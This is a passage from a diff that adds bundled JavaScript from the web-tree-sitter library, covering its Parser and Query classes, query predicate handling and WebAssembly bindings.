+   * Load a language synchronously from a pre-compiled WebAssembly module.
+   * Use this when the host environment provides a `WebAssembly.Module` directly.
+   */
+  static loadSync(wasmModule) {
+    const mod = C.loadWebAssemblyModule(wasmModule, { loadAsync: false });
+    return _Language.loadFromWasmExports(mod, { sync: true });
+  }
+};
+
+// src/bindings.ts
+var import_web_tree_sitter = __toESM(require_web_tree_sitter(), 1);
+var Module2 = null;
+async function initializeBinding(moduleOptions) {
+  return Module2 ??= await (0, import_web_tree_sitter.default)(moduleOptions);
+}
+__name(initializeBinding, "initializeBinding");
+function checkModule() {
+  return !!Module2;
+}
+__name(checkModule, "checkModule");
+
+// src/parser.ts
+var TRANSFER_BUFFER;
+var LANGUAGE_VERSION;
+var MIN_COMPATIBLE_VERSION;
+var finalizer4 = newFinalizer((addresses) => {
+  C._ts_parser_delete(addresses[0]);
+  C._free(addresses[1]);
+});
+var Parser = class {
+  static {
+    __name(this, "Parser");
+  }
+  /** @internal */
+  [0] = 0;
+  // Internal handle for Wasm
+  /** @internal */
+  [1] = 0;
+  // Internal handle for Wasm
+  /** @internal */
+  logCallback = null;
+  /** The parser's current language. */
+  language = null;
+  /**
+   * This must always be called before creating a Parser.
+   *
+   * You can optionally pass in options to configure the Wasm module, the most common
+   * one being `locateFile` to help the module find the `.wasm` file.
+   */
+  static async init(moduleOptions) {
+    setModule(await initializeBinding(moduleOptions));
+    TRANSFER_BUFFER = C._ts_init();
+    LANGUAGE_VERSION = C.getValue(TRANSFER_BUFFER, "i32");
+    MIN_COMPATIBLE_VERSION = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+  }
+  /**
+   * Create a new parser.
+   */
+  constructor() {
+    this.initialize();
+    finalizer4?.register(this, [this[0], this[1]], this);
+  }
+  /** @internal */
+  initialize() {
+    if (!checkModule()) {
+      throw new Error("cannot construct a Parser before calling `init()`");
+    }
+    C._ts_parser_new_wasm();
+    this[0] = C.getValue(TRANSFER_BUFFER, "i32");
+    this[1] = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+  }
+  /** Delete the parser, freeing its resources. */
+  delete() {
+    finalizer4?.unregister(this);
+    C._ts_parser_delete(this[0]);
+    C._free(this[1]);
+    this[0] = 0;
+    this[1] = 0;
+  }
+  /**
+   * Set the language that the parser should use for parsing.
+   *
+   * If the language was not successfully assigned, an error will be thrown.
+   * This happens if the language was generated with an incompatible
+   * version of the Tree-sitter CLI. Check the language's version using
+   * {@link Language#version} and compare it to this library's
+   * {@link LANGUAGE_VERSION} and {@link MIN_COMPATIBLE_VERSION} constants.
+   */
+  setLanguage(language) {
+    let address;
+    if (!language) {
+      address = 0;
+      this.language = null;
+    } else if (language.constructor === Language) {
+      address = language[0];
+      const version = C._ts_language_abi_version(address);
+      if (version < MIN_COMPATIBLE_VERSION || LANGUAGE_VERSION < version) {
+        throw new Error(
+          `Incompatible language version ${version}. Compatibility range ${MIN_COMPATIBLE_VERSION} through ${LANGUAGE_VERSION}.`
+        );
+      }
+      this.language = language;
+    } else {
+      throw new Error("Argument must be a Language");
+    }
+    C._ts_parser_set_language(this[0], address);
+    return this;
+  }
+  /**
+   * Parse a slice of UTF8 text.
+   *
+   * @param {string | ParseCallback} callback - The UTF8-encoded text to parse or a callback function.
+   *
+   * @param {Tree | null} [oldTree] - A previous syntax tree parsed from the same document. If the text of the
+   *   document has changed since `oldTree` was created, then you must edit `oldTree` to match
+   *   the new text using {@link Tree#edit}.
+   *
+   * @param {ParseOptions} [options] - Options for parsing the text.
+   *  This can be used to set the included ranges, or a progress callback.
+   *
+   * @returns {Tree | null} A {@link Tree} if parsing succeeded, or `null` if:
+   *  - The parser has not yet had a language assigned with {@link Parser#setLanguage}.
+   *  - The progress callback returned true.
+   */
+  parse(callback, oldTree, options) {
+    if (typeof callback === "string") {
+      C.currentParseCallback = (index) => callback.slice(index);
+    } else if (typeof callback === "function") {
+      C.currentParseCallback = callback;
+    } else {
+      throw new Error("Argument must be a string or a function");
+    }
+    if (options?.progressCallback) {
+      C.currentProgressCallback = options.progressCallback;
+    } else {
+      C.currentProgressCallback = null;
+    }
+    if (this.logCallback) {
+      C.currentLogCallback = this.logCallback;
+      C._ts_parser_enable_logger_wasm(this[0], 1);
+    } else {
+      C.currentLogCallback = null;
+      C._ts_parser_enable_logger_wasm(this[0], 0);
+    }
+    let rangeCount = 0;
+    let rangeAddress = 0;
+    if (options?.includedRanges) {
+      rangeCount = options.includedRanges.length;
+      rangeAddress = C._calloc(rangeCount, SIZE_OF_RANGE);
+      let address = rangeAddress;
+      for (let i2 = 0; i2 < rangeCount; i2++) {
+        marshalRange(address, options.includedRanges[i2]);
+        address += SIZE_OF_RANGE;
+      }
+    }
+    const treeAddress = C._ts_parser_parse_wasm(
+      this[0],
+      this[1],
+      oldTree ? oldTree[0] : 0,
+      rangeAddress,
+      rangeCount
+    );
+    if (!treeAddress) {
+      C.currentParseCallback = null;
+      C.currentLogCallback = null;
+      C.currentProgressCallback = null;
+      return null;
+    }
+    if (!this.language) {
+      throw new Error("Parser must have a language to parse");
+    }
+    const result = new Tree(INTERNAL, treeAddress, this.language, C.currentParseCallback);
+    C.currentParseCallback = null;
+    C.currentLogCallback = null;
+    C.currentProgressCallback = null;
+    return result;
+  }
+  /**
+   * Instruct the parser to start the next parse from the beginning.
+   *
+   * If the parser previously failed because of a callback, 
+   * then by default, it will resume where it left off on the
+   * next call to {@link Parser#parse} or other parsing functions.
+   * If you don't want to resume, and instead intend to use this parser to
+   * parse some other document, you must call `reset` first.
+   */
+  reset() {
+    C._ts_parser_reset(this[0]);
+  }
+  /** Get the ranges of text that the parser will include when parsing. */
+  getIncludedRanges() {
+    C._ts_parser_included_ranges_wasm(this[0]);
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(count);
+    if (count > 0) {
+      let address = buffer;
+      for (let i2 = 0; i2 < count; i2++) {
+        result[i2] = unmarshalRange(address);
+        address += SIZE_OF_RANGE;
+      }
+      C._free(buffer);
+    }
+    return result;
+  }
+  /** Set the logging callback that a parser should use during parsing. */
+  setLogger(callback) {
+    if (!callback) {
+      this.logCallback = null;
+    } else if (typeof callback !== "function") {
+      throw new Error("Logger callback must be a function");
+    } else {
+      this.logCallback = callback;
+    }
+    return this;
+  }
+  /** Get the parser's current logger. */
+  getLogger() {
+    return this.logCallback;
+  }
+};
+
+// src/query.ts
+var PREDICATE_STEP_TYPE_CAPTURE = 1;
+var PREDICATE_STEP_TYPE_STRING = 2;
+var QUERY_WORD_REGEX = /[\w-]+/g;
+var CaptureQuantifier = {
+  Zero: 0,
+  ZeroOrOne: 1,
+  ZeroOrMore: 2,
+  One: 3,
+  OneOrMore: 4
+};
+var isCaptureStep = /* @__PURE__ */ __name((step) => step.type === "capture", "isCaptureStep");
+var isStringStep = /* @__PURE__ */ __name((step) => step.type === "string", "isStringStep");
+var QueryErrorKind = {
+  Syntax: 1,
+  NodeName: 2,
+  FieldName: 3,
+  CaptureName: 4,
+  PatternStructure: 5
+};
+var QueryError = class _QueryError extends Error {
+  constructor(kind, info2, index, length) {
+    super(_QueryError.formatMessage(kind, info2));
+    this.kind = kind;
+    this.info = info2;
+    this.index = index;
+    this.length = length;
+    this.name = "QueryError";
+  }
+  kind;
+  info;
+  index;
+  length;
+  static {
+    __name(this, "QueryError");
+  }
+  /** Formats an error message based on the error kind and info */
+  static formatMessage(kind, info2) {
+    switch (kind) {
+      case QueryErrorKind.NodeName:
+        return `Bad node name '${info2.word}'`;
+      case QueryErrorKind.FieldName:
+        return `Bad field name '${info2.word}'`;
+      case QueryErrorKind.CaptureName:
+        return `Bad capture name @${info2.word}`;
+      case QueryErrorKind.PatternStructure:
+        return `Bad pattern structure at offset ${info2.suffix}`;
+      case QueryErrorKind.Syntax:
+        return `Bad syntax at offset ${info2.suffix}`;
+    }
+  }
+};
+function parseAnyPredicate(steps, index, operator, textPredicates) {
+  if (steps.length !== 3) {
+    throw new Error(
+      `Wrong number of arguments to \`#${operator}\` predicate. Expected 2, got ${steps.length - 1}`
+    );
+  }
+  if (!isCaptureStep(steps[1])) {
+    throw new Error(
+      `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}"`
+    );
+  }
+  const isPositive = operator === "eq?" || operator === "any-eq?";
+  const matchAll = !operator.startsWith("any-");
+  if (isCaptureStep(steps[2])) {
+    const captureName1 = steps[1].name;
+    const captureName2 = steps[2].name;
+    textPredicates[index].push((captures) => {
+      const nodes1 = [];
+      const nodes2 = [];
+      for (const c of captures) {
+        if (c.name === captureName1) nodes1.push(c.node);
+        if (c.name === captureName2) nodes2.push(c.node);
+      }
+      const compare = /* @__PURE__ */ __name((n1, n2, positive) => {
+        return positive ? n1.text === n2.text : n1.text !== n2.text;
+      }, "compare");
+      return matchAll ? nodes1.every((n1) => nodes2.some((n2) => compare(n1, n2, isPositive))) : nodes1.some((n1) => nodes2.some((n2) => compare(n1, n2, isPositive)));
+    });
+  } else {
+    const captureName = steps[1].name;
+    const stringValue = steps[2].value;
+    const matches = /* @__PURE__ */ __name((n) => n.text === stringValue, "matches");
+    const doesNotMatch = /* @__PURE__ */ __name((n) => n.text !== stringValue, "doesNotMatch");
+    textPredicates[index].push((captures) => {
+      const nodes = [];
+      for (const c of captures) {
+        if (c.name === captureName) nodes.push(c.node);
+      }
+      const test = isPositive ? matches : doesNotMatch;
+      return matchAll ? nodes.every(test) : nodes.some(test);
+    });
+  }
+}
+__name(parseAnyPredicate, "parseAnyPredicate");
+function parseMatchPredicate(steps, index, operator, textPredicates) {
+  if (steps.length !== 3) {
+    throw new Error(
+      `Wrong number of arguments to \`#${operator}\` predicate. Expected 2, got ${steps.length - 1}.`
+    );
+  }
+  if (steps[1].type !== "capture") {
+    throw new Error(
+      `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}".`
+    );
+  }
+  if (steps[2].type !== "string") {
+    throw new Error(
+      `Second argument of \`#${operator}\` predicate must be a string. Got @${steps[2].name}.`
+    );
+  }
+  const isPositive = operator === "match?" || operator === "any-match?";
+  const matchAll = !operator.startsWith("any-");
+  const captureName = steps[1].name;
+  const regex = new RegExp(steps[2].value);
+  textPredicates[index].push((captures) => {
+    const nodes = [];
+    for (const c of captures) {
+      if (c.name === captureName) nodes.push(c.node.text);
+    }
+    const test = /* @__PURE__ */ __name((text, positive) => {
+      return positive ? regex.test(text) : !regex.test(text);
+    }, "test");
+    if (nodes.length === 0) return !isPositive;
+    return matchAll ? nodes.every((text) => test(text, isPositive)) : nodes.some((text) => test(text, isPositive));
+  });
+}
+__name(parseMatchPredicate, "parseMatchPredicate");
+function parseAnyOfPredicate(steps, index, operator, textPredicates) {
+  if (steps.length < 2) {
+    throw new Error(
+      `Wrong number of arguments to \`#${operator}\` predicate. Expected at least 1. Got ${steps.length - 1}.`
+    );
+  }
+  if (steps[1].type !== "capture") {
+    throw new Error(
+      `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}".`
+    );
+  }
+  const isPositive = operator === "any-of?";
+  const captureName = steps[1].name;
+  const stringSteps = steps.slice(2);
+  if (!stringSteps.every(isStringStep)) {
+    throw new Error(
+      `Arguments to \`#${operator}\` predicate must be strings.".`
+    );
+  }
+  const values = stringSteps.map((s) => s.value);
+  textPredicates[index].push((captures) => {
+    const nodes = [];
+    for (const c of captures) {
+      if (c.name === captureName) nodes.push(c.node.text);
+    }
+    if (nodes.length === 0) return !isPositive;
+    return nodes.every((text) => values.includes(text)) === isPositive;
+  });
+}
+__name(parseAnyOfPredicate, "parseAnyOfPredicate");
+function parseIsPredicate(steps, index, operator, assertedProperties, refutedProperties) {
+  if (steps.length < 2 || steps.length > 3) {
+    throw new Error(
+      `Wrong number of arguments to \`#${operator}\` predicate. Expected 1 or 2. Got ${steps.length - 1}.`
+    );
+  }
+  if (!steps.every(isStringStep)) {
+    throw new Error(
+      `Arguments to \`#${operator}\` predicate must be strings.".`
+    );
+  }
+  const properties = operator === "is?" ? assertedProperties : refutedProperties;
+  if (!properties[index]) properties[index] = {};
+  properties[index][steps[1].value] = steps[2]?.value ?? null;
+}
+__name(parseIsPredicate, "parseIsPredicate");
+function parseSetDirective(steps, index, setProperties) {
+  if (steps.length < 2 || steps.length > 3) {
+    throw new Error(`Wrong number of arguments to \`#set!\` predicate. Expected 1 or 2. Got ${steps.length - 1}.`);
+  }
+  if (!steps.every(isStringStep)) {
+    throw new Error(`Arguments to \`#set!\` predicate must be strings.".`);
+  }
+  if (!setProperties[index]) setProperties[index] = {};
+  setProperties[index][steps[1].value] = steps[2]?.value ?? null;
+}
+__name(parseSetDirective, "parseSetDirective");
+function parsePattern(index, stepType, stepValueId, captureNames, stringValues, steps, textPredicates, predicates, setProperties, assertedProperties, refutedProperties) {
+  if (stepType === PREDICATE_STEP_TYPE_CAPTURE) {
+    const name2 = captureNames[stepValueId];
+    steps.push({ type: "capture", name: name2 });
+  } else if (stepType === PREDICATE_STEP_TYPE_STRING) {
+    steps.push({ type: "string", value: stringValues[stepValueId] });
+  } else if (steps.length > 0) {
+    if (steps[0].type !== "string") {
+      throw new Error("Predicates must begin with a literal value");
+    }
+    const operator = steps[0].value;
+    switch (operator) {
+      case "any-not-eq?":
+      case "not-eq?":
+      case "any-eq?":
+      case "eq?":
+        parseAnyPredicate(steps, index, operator, textPredicates);
+        break;
+      case "any-not-match?":
+      case "not-match?":
+      case "any-match?":
+      case "match?":
+        parseMatchPredicate(steps, index, operator, textPredicates);
+        break;
+      case "not-any-of?":
+      case "any-of?":
+        parseAnyOfPredicate(steps, index, operator, textPredicates);
+        break;
+      case "is?":
+      case "is-not?":
+        parseIsPredicate(steps, index, operator, assertedProperties, refutedProperties);
+        break;
+      case "set!":
+        parseSetDirective(steps, index, setProperties);
+        break;
+      default:
+        predicates[index].push({ operator, operands: steps.slice(1) });
+    }
+    steps.length = 0;
+  }
+}
+__name(parsePattern, "parsePattern");
+function indexForByteOffset(source, byteOffset) {
+  return new TextEncoder().encodeInto(source, new Uint8Array(byteOffset)).read;
+}
+__name(indexForByteOffset, "indexForByteOffset");
+var finalizer5 = newFinalizer((address) => {
+  C._ts_query_delete(address);
+});
+var Query = class {
+  static {
+    __name(this, "Query");
+  }
+  /** @internal */
+  [0] = 0;
+  // Internal handle for Wasm
+  /** @internal */
+  exceededMatchLimit;
+  /** @internal */
+  textPredicates;
+  /** @internal */
+  source;
+  /** The names of the captures used in the query. */
+  captureNames;
+  /** The quantifiers of the captures used in the query. */
+  captureQuantifiers;
+  /**
+   * The other user-defined predicates associated with the given index.
+   *
+   * This includes predicates with operators other than:
+   * - `match?`
+   * - `eq?` and `not-eq?`
+   * - `any-of?` and `not-any-of?`
+   * - `is?` and `is-not?`
+   * - `set!`
+   */
+  predicates;
+  /** The properties for predicates with the operator `set!`. */
+  setProperties;
+  /** The properties for predicates with the operator `is?`. */
+  assertedProperties;
+  /** The properties for predicates with the operator `is-not?`. */
+  refutedProperties;
+  /** The maximum number of in-progress matches for this cursor. */
+  matchLimit;
+  /**
+   * Create a new query from a string containing one or more S-expression
+   * patterns.
+   *
+   * The query is associated with a particular language, and can only be run
+   * on syntax nodes parsed with that language. References to Queries can be
+   * shared between multiple threads.
+   *
+   * @link {@see https://tree-sitter.github.io/tree-sitter/using-parsers/queries}
+   */
+  constructor(language, source) {
+    const sourceLength = C.lengthBytesUTF8(source);
+    const sourceAddress = C._malloc(sourceLength + 1);
+    C.stringToUTF8(source, sourceAddress, sourceLength + 1);
+    const address = C._ts_query_new(
+      language[0],
+      sourceAddress,
+      sourceLength,
+      TRANSFER_BUFFER,
+      TRANSFER_BUFFER + SIZE_OF_INT
+    );
+    if (!address) {
+      const errorId = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+      const errorByte = C.getValue(TRANSFER_BUFFER, "i32");
+      const errorIndex = C.UTF8ToString(sourceAddress, errorByte).length;
+      const suffix = source.slice(errorIndex, errorIndex + 100).split("\n")[0];
+      const word = suffix.match(QUERY_WORD_REGEX)?.[0] ?? "";
+      C._free(sourceAddress);
+      switch (errorId) {
+        case QueryErrorKind.Syntax:
+          throw new QueryError(QueryErrorKind.Syntax, { suffix: `${errorIndex}: '${suffix}'...` }, errorIndex, 0);
+        case QueryErrorKind.NodeName:
+          throw new QueryError(errorId, { word }, errorIndex, word.length);
+        case QueryErrorKind.FieldName:
+          throw new QueryError(errorId, { word }, errorIndex, word.length);
+        case QueryErrorKind.CaptureName:
+          throw new QueryError(errorId, { word }, errorIndex, word.length);
+        case QueryErrorKind.PatternStructure:
+          throw new QueryError(errorId, { suffix: `${errorIndex}: '${suffix}'...` }, errorIndex, 0);
+      }
+    }
+    const stringCount = C._ts_query_string_count(address);
+    const captureCount = C._ts_query_capture_count(address);
+    const patternCount = C._ts_query_pattern_count(address);
+    const captureNames = new Array(captureCount);
+    const captureQuantifiers = new Array(patternCount);
+    const stringValues = new Array(stringCount);
+    for (let i2 = 0; i2 < captureCount; i2++) {
+      const nameAddress = C._ts_query_capture_name_for_id(
+        address,
+        i2,
+        TRANSFER_BUFFER
+      );
+      const nameLength = C.getValue(TRANSFER_BUFFER, "i32");
+      captureNames[i2] = C.UTF8ToString(nameAddress, nameLength);
+    }
+    for (let i2 = 0; i2 < patternCount; i2++) {
+      const captureQuantifiersArray = new Array(captureCount);
+      for (let j = 0; j < captureCount; j++) {
+        const quantifier = C._ts_query_capture_quantifier_for_id(address, i2, j);
+        captureQuantifiersArray[j] = quantifier;
+      }
+      captureQuantifiers[i2] = captureQuantifiersArray;
+    }
+    for (let i2 = 0; i2 < stringCount; i2++) {
+      const valueAddress = C._ts_query_string_value_for_id(
+        address,
+        i2,
+        TRANSFER_BUFFER
+      );
+      const nameLength = C.getValue(TRANSFER_BUFFER, "i32");
+      stringValues[i2] = C.UTF8ToString(valueAddress, nameLength);
+    }
+    const setProperties = new Array(patternCount);
+    const assertedProperties = new Array(patternCount);
+    const refutedProperties = new Array(patternCount);
+    const predicates = new Array(patternCount);
+    const textPredicates = new Array(patternCount);
+    for (let i2 = 0; i2 < patternCount; i2++) {
+      const predicatesAddress = C._ts_query_predicates_for_pattern(address, i2, TRANSFER_BUFFER);
+      const stepCount = C.getValue(TRANSFER_BUFFER, "i32");
+      predicates[i2] = [];
+      textPredicates[i2] = [];
+      const steps = new Array();
+      let stepAddress = predicatesAddress;
+      for (let j = 0; j < stepCount; j++) {
+        const stepType = C.getValue(stepAddress, "i32");
+        stepAddress += SIZE_OF_INT;
+        const stepValueId = C.getValue(stepAddress, "i32");
+        stepAddress += SIZE_OF_INT;
+        parsePattern(
+          i2,
+          stepType,
+          stepValueId,
+          captureNames,
+          stringValues,
+          steps,
+          textPredicates,
+          predicates,
+          setProperties,
+          assertedProperties,
+          refutedProperties
+        );
+      }
+      Object.freeze(textPredicates[i2]);
+      Object.freeze(predicates[i2]);
+      Object.freeze(setProperties[i2]);
+      Object.freeze(assertedProperties[i2]);
+      Object.freeze(refutedProperties[i2]);
+    }
+    C._free(sourceAddress);
+    this[0] = address;
+    this.captureNames = captureNames;
+    this.captureQuantifiers = captureQuantifiers;
+    this.textPredicates = textPredicates;
+    this.source = source;
+    this.predicates = predicates;
+    this.setProperties = setProperties;
+    this.assertedProperties = assertedProperties;
+    this.refutedProperties = refutedProperties;
+    this.exceededMatchLimit = false;
+    finalizer5?.register(this, address, this);
+  }
+  /** Delete the query, freeing its resources. */
+  delete() {
+    finalizer5?.unregister(this);
+    C._ts_query_delete(this[0]);
+    this[0] = 0;
+  }
+  /**
+   * Iterate over all of the matches in the order that they were found.
+   *
+   * Each match contains the index of the pattern that matched, and a list of
+   * captures. Because multiple patterns can match the same set of nodes,
+   * one match may contain captures that appear *before* some of the
+   * captures from a previous match.
+   *
+   * @param {Node} node - The node to execute the query on.
+   *
+   * @param {QueryOptions} options - Options for query execution.
+   */
+  matches(node, options = {}) {
+    const startPosition = options.startPosition ?? ZERO_POINT;
+    const endPosition = options.endPosition ?? ZERO_POINT;
+    const startIndex = options.startIndex ?? 0;
+    const endIndex = options.endIndex ?? 0;
+    const startContainingPosition = options.startContainingPosition ?? ZERO_POINT;
+    const endContainingPosition = options.endContainingPosition ?? ZERO_POINT;
+    const startContainingIndex = options.startContainingIndex ?? 0;
+    const endContainingIndex = options.endContainingIndex ?? 0;
+    const matchLimit = options.matchLimit ?? 4294967295;
+    const maxStartDepth = options.maxStartDepth ?? 4294967295;
+    const progressCallback = options.progressCallback;
+    if (typeof matchLimit !== "number") {
+      throw new Error("Arguments must be numbers");
+    }
+    this.matchLimit = matchLimit;
+    if (endIndex !== 0 && startIndex > endIndex) {
+      throw new Error("`startIndex` cannot be greater than `endIndex`");
+    }
+    if (endPosition !== ZERO_POINT && (startPosition.row > endPosition.row || startPosition.row === endPosition.row && startPosition.column > endPosition.column)) {
+      throw new Error("`startPosition` cannot be greater than `endPosition`");
+    }
+    if (endContainingIndex !== 0 && startContainingIndex > endContainingIndex) {
+      throw new Error("`startContainingIndex` cannot be greater than `endContainingIndex`");
+    }
+    if (endContainingPosition !== ZERO_POINT && (startContainingPosition.row > endContainingPosition.row || startContainingPosition.row === endContainingPosition.row && startContainingPosition.column > endContainingPosition.column)) {
+      throw new Error("`startContainingPosition` cannot be greater than `endContainingPosition`");
+    }
+    if (progressCallback) {
+      C.currentQueryProgressCallback = progressCallback;
+    }
+    marshalNode(node);
+    C._ts_query_matches_wasm(
+      this[0],
+      node.tree[0],
+      startPosition.row,
+      startPosition.column,
+      endPosition.row,
+      endPosition.column,
+      startIndex,
+      endIndex,
+      startContainingPosition.row,
+      startContainingPosition.column,
+      endContainingPosition.row,
+      endContainingPosition.column,
+      startContainingIndex,
+      endContainingIndex,
+      matchLimit,
+      maxStartDepth
+    );
+    const rawCount = C.getValue(TRANSFER_BUFFER, "i32");
+    const startAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const didExceedMatchLimit = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
+    const result = new Array(rawCount);
+    this.exceededMatchLimit = Boolean(didExceedMatchLimit);
+    let filteredCount = 0;
+    let address = startAddress;
+    for (let i2 = 0; i2 < rawCount; i2++) {
+      const patternIndex = C.getValue(address, "i32");
+      address += SIZE_OF_INT;
+      const captureCount = C.getValue(address, "i32");
+      address += SIZE_OF_INT;
+      const captures = new Array(captureCount);
+      address = unmarshalCaptures(this, node.tree, address, patternIndex, captures);
+      if (this.textPredicates[patternIndex].every((p) => p(captures))) {
+        result[filteredCount] = { patternIndex, captures };
+        const setProperties = this.setProperties[patternIndex];
+        result[filteredCount].setProperties = setProperties;
+        const assertedProperties = this.assertedProperties[patternIndex];
+        result[filteredCount].assertedProperties = assertedProperties;
+        const refutedProperties = this.refutedProperties[patternIndex];
+        result[filteredCount].refutedProperties = refutedProperties;
+        filteredCount++;
+      }
+    }
+    result.length = filteredCount;
+    C._free(startAddress);
+    C.currentQueryProgressCallback = null;
+    return result;
+  }
+  /**
+   * Iterate over all of the individual captures in the order that they
+   * appear.
+   *
+   * This is useful if you don't care about which pattern matched, and just
+   * want a single, ordered sequence of captures.
+   *
+   * @param {Node} node - The node to execute the query on.
+   *
+   * @param {QueryOptions} options - Options for query execution.
+   */
+  captures(node, options = {}) {
+    const startPosition = options.startPosition ?? ZERO_POINT;
+    const endPosition = options.endPosition ?? ZERO_POINT;
+    const startIndex = options.startIndex ?? 0;
+    const endIndex = options.endIndex ?? 0;
+    const startContainingPosition = options.startContainingPosition ?? ZERO_POINT;
+    const endContainingPosition = options.endContainingPosition ?? ZERO_POINT;
+    const startContainingIndex = options.startContainingIndex ?? 0;
+    const endContainingIndex = options.endContainingIndex ?? 0;
+    const matchLimit = options.matchLimit ?? 4294967295;
+    const maxStartDepth = options.maxStartDepth ?? 4294967295;
+    const progressCallback = options.progressCallback;
+    if (typeof matchLimit !== "number") {
+      throw new Error("Arguments must be numbers");
+    }
+    this.matchLimit = matchLimit;
+    if (endIndex !== 0 && startIndex > endIndex) {
+      throw new Error("`startIndex` cannot be greater than `endIndex`");
+    }
+    if (endPosition !== ZERO_POINT && (startPosition.row > endPosition.row || startPosition.row === endPosition.row && startPosition.column > endPosition.column)) {
+      throw new Error("`startPosition` cannot be greater than `endPosition`");
+    }
+    if (endContainingIndex !== 0 && startContainingIndex > endContainingIndex) {
+      throw new Error("`startContainingIndex` cannot be greater than `endContainingIndex`");
+    }
+    if (endContainingPosition !== ZERO_POINT && (startContainingPosition.row > endContainingPosition.row || startContainingPosition.row === endContainingPosition.row && startContainingPosition.column > endContainingPosition.column)) {
+      throw new Error("`startContainingPosition` cannot be greater than `endContainingPosition`");
+    }
+    if (progressCallback) {
+      C.currentQueryProgressCallback = progressCallback;
+    }
+    marshalNode(node);
+    C._ts_query_captures_wasm(
+      this[0],
+      node.tree[0],
+      startPosition.row,
+      startPosition.column,
+      endPosition.row,
+      endPosition.column,
+      startIndex,
+      endIndex,
+      startContainingPosition.row,
+      startContainingPosition.column,
+      endContainingPosition.row,
+      endContainingPosition.column,
+      startContainingIndex,
+      endContainingIndex,
+      matchLimit,
+      maxStartDepth
+    );
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const startAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const didExceedMatchLimit = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
+    const result = new Array();
+    this.exceededMatchLimit = Boolean(didExceedMatchLimit);
+    const captures = new Array();
+    let address = startAddress;
+    for (let i2 = 0; i2 < count; i2++) {
+      const patternIndex = C.getValue(address, "i32");
+      address += SIZE_OF_INT;
+      const captureCount = C.getValue(address, "i32");
+      address += SIZE_OF_INT;
+      const captureIndex = C.getValue(address, "i32");
+      address += SIZE_OF_INT;
+      captures.length = captureCount;
+      address = unmarshalCaptures(this, node.tree, address, patternIndex, captures);
+      if (this.textPredicates[patternIndex].every((p) => p(captures))) {
+        const capture = captures[captureIndex];
+        const setProperties = this.setProperties[patternIndex];
+        capture.setProperties = setProperties;
+        const assertedProperties = this.assertedProperties[patternIndex];
+        capture.assertedProperties = assertedProperties;
+        const refutedProperties = this.refutedProperties[patternIndex];
+        capture.refutedProperties = refutedProperties;
+        result.push(capture);
+      }
+    }
+    C._free(startAddress);
+    C.currentQueryProgressCallback = null;
+    return result;
+  }
+  /** Get the predicates for a given pattern. */
+  predicatesForPattern(patternIndex) {
+    return this.predicates[patternIndex];
+  }
+  /**
+   * Disable a certain capture within a query.
+   *
+   * This prevents the capture from being returned in matches, and also
+   * avoids any resource usage associated with recording the capture.
+   */
+  disableCapture(captureName) {
+    const captureNameLength = C.lengthBytesUTF8(captureName);
+    const captureNameAddress = C._malloc(captureNameLength + 1);
+    C.stringToUTF8(captureName, captureNameAddress, captureNameLength + 1);
+    C._ts_query_disable_capture(this[0], captureNameAddress, captureNameLength);
+    C._free(captureNameAddress);
+  }
+  /**
+   * Disable a certain pattern within a query.
+   *
+   * This prevents the pattern from matching, and also avoids any resource
+   * usage associated with the pattern. This throws an error if the pattern
+   * index is out of bounds.
+   */
+  disablePattern(patternIndex) {
+    if (patternIndex >= this.predicates.length) {
+      throw new Error(
+        `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
+      );
+    }
+    C._ts_query_disable_pattern(this[0], patternIndex);
+  }
+  /**
+   * Check if, on its last execution, this cursor exceeded its maximum number
+   * of in-progress matches.
+   */
+  didExceedMatchLimit() {
+    return this.exceededMatchLimit;
+  }
+  /** Get the index where the given pattern starts in the query's source. */
+  startIndexForPattern(patternIndex) {
+    if (patternIndex >= this.predicates.length) {
+      throw new Error(
+        `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
+      );
+    }
+    const byteOffset = C._ts_query_start_byte_for_pattern(this[0], patternIndex);
+    return indexForByteOffset(this.source, byteOffset);
+  }
+  /** Get the index where the given pattern ends in the query's source. */
+  endIndexForPattern(patternIndex) {
+    if (patternIndex >= this.predicates.length) {
+      throw new Error(
+        `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
+      );
+    }
+    const byteOffset = C._ts_query_end_byte_for_pattern(this[0], patternIndex);
+    return indexForByteOffset(this.source, byteOffset);
+  }
+  /** Get the number of patterns in the query. */
+  patternCount() {
+    return C._ts_query_pattern_count(this[0]);
+  }
+  /** Get the index for a given capture name. */
+  captureIndexForName(captureName) {
+    return this.captureNames.indexOf(captureName);
+  }
+  /** Check if a given pattern within a query has a single root node. */
+  isPatternRooted(patternIndex) {
+    return C._ts_query_is_pattern_rooted(this[0], patternIndex) === 1;
+  }
+  /** Check if a given pattern within a query has a single root node. */
+  isPatternNonLocal(patternIndex) {
+    return C._ts_query_is_pattern_non_local(this[0], patternIndex) === 1;
+  }
+  /**
+   * Check if the step at the given index in the query's source is 'definite'.
+   *
+   * A query step is 'definite' if its parent pattern will be guaranteed to
+   * match successfully once it reaches the step.
+   */
+  isPatternGuaranteedAtStep(index) {
+    const byteOffset = C.lengthBytesUTF8(this.source.slice(0, index));
+    return C._ts_query_is_pattern_guaranteed_at_step(this[0], byteOffset) === 1;
+  }
+};
+// Annotate the CommonJS export names for ESM import in node:
+0 && (0);
+module.exports["default"] = module.exports;
+//# sourceMappingURL=web-tree-sitter.cjs.map
+
+
+/***/ }),
+
 /***/ 9069:
 /***/ ((__webpack_module__, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(__webpack_module__, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _cli_main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(6311);
